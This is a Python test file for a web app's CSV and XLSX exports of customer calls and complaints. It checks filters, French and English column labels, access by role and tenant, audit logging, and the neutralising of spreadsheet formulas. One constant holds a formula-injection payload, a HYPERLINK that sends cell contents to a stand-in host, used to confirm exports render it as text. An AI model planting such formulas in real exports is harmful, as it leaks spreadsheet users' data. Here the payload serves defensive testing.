"""Voice exports (issue #15, item 7): the call and complaint lists download as CSV and XLSX with the
list's filters applied, column names in the reader's language, formulas neutralised in both formats,
numbers written as numbers, and each export journalled."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
from flask import Flask
from sqlalchemy import select

from tests import factories
from tests.conftest import TenantSet
from webapp import tenancy
from webapp.models import AuditEvent, Call, Complaint, Role, Tag, TagKind

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "Cliquez")'


def _voices(app: Flask, tenant_id: int) -> None:
    """Two calls (one about an evil product name, unhappy) and three complaints, one of them a formula."""
    with app.app_context():
        evil_call = factories.make_call(tenant_id, product=EVIL)
        factories.make_call(tenant_id, product="Four X")
        evil = factories.make_complaint(tenant_id, text=f"{EVIL} mon four est en panne")
        factories.make_complaint(tenant_id, text="Livraison en retard")
        factories.make_complaint(tenant_id, text="-2+3 le four est en panne aussi")
        with tenancy.tenant_session(tenant_id) as session:
            session.add(Tag(call_id=evil_call, kind=TagKind.SENTIMENT, value="unhappy"))
            complaint = session.get(Complaint, evil)
            assert complaint is not None
            complaint.product = "Four X"


def _csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents right
    return list(csv.reader(io.StringIO(text[1:])))


def test_call_csv_has_the_filters_french_labels_and_no_formula(app: Flask, tenants: dict[str, TenantSet],
                                                              login_as: Any) -> None:
    _voices(app, tenants["a"].id)
    client = login_as("a", Role.QUALITY_MANAGER)  # company A speaks French
    response = client.get("/exports/calls.csv?sentiment=unhappy")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _csv(response.data)
    assert rows[0][:4] == ["Identifiant", "Date de réception", "Canal", "Produit"]
    assert len(rows) == 2  # the header and the one unhappy call
    assert rows[1][3] == "'" + EVIL  # shown as text, never run
    assert float(rows[1][5]) > 0  # the length, a number
    everything = _csv(client.get("/exports/calls.csv").data)
    assert len(everything) == 3
    with app.app_context(), tenancy.tenant_session(tenants["a"].id) as session:
        events = session.scalars(select(AuditEvent).where(AuditEvent.action == "voices.exported")
                                 .order_by(AuditEvent.id)).all()
        assert [(e.details["list"], e.details["format"], e.details["rows"]) for e in events] == [
            ("calls", "csv", 1), ("calls", "csv", 2)]
        assert events[0].details["filters"] == {"sentiment": "unhappy"}


def test_complaint_xlsx_has_the_filters_and_text_cells_only(app: Flask, tenants: dict[str, TenantSet],
                                                           login_as: Any) -> None:
    _voices(app, tenants["a"].id)
    client = login_as("a", Role.TENANT_ADMIN, locale="en")
    response = client.get("/exports/complaints.xlsx?q=panne")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:4] == ["Id", "Received", "Channel", "Product"]
    assert len(rows) == 3  # the two complaints about a breakdown ("panne"), not the late delivery
    texts = {row[-1].value: row[-1] for row in rows[1:]}
    evil = texts[f"{EVIL} mon four est en panne"]
    assert evil.data_type == "s" and evil.quotePrefix  # text, and stays text when edited
    assert texts["-2+3 le four est en panne aussi"].data_type == "s"
    assert all(isinstance(row[0].value, int) for row in rows[1:])  # ids are numbers
    by_product = openpyxl.load_workbook(io.BytesIO(client.get("/exports/complaints.xlsx?product=Four").data)).active
    assert by_product is not None and by_product.max_row == 2  # the list's product filter applies too


def test_exports_are_for_curators_and_show_only_the_company_s_voices(app: Flask, tenants: dict[str, TenantSet],
                                                                    login_as: Any) -> None:
    _voices(app, tenants["a"].id)
    assert login_as("a", Role.STAFF).get("/exports/calls.csv").status_code == 403
    rows = _csv(login_as("b", Role.QUALITY_MANAGER).get("/exports/calls.csv").data)
    assert rows[0][0] == "Id" and len(rows) == 1  # company B (English) sees none of A's calls
    with app.app_context(), tenancy.tenant_session(tenants["a"].id) as session:
        assert len(session.scalars(select(Call)).all()) == 2


def test_the_lists_link_their_downloads_with_their_filters(app: Flask, tenants: dict[str, TenantSet],
                                                          login_as: Any) -> None:
    _voices(app, tenants["a"].id)
    client = login_as("a", Role.QUALITY_MANAGER)
    calls = client.get("/calls?channel=phone").text
    assert "/exports/calls.csv?channel=phone" in calls and "/exports/calls.xlsx?channel=phone" in calls
    complaints = client.get("/complaints?q=panne").text
    assert "/exports/complaints.csv?q=panne" in complaints
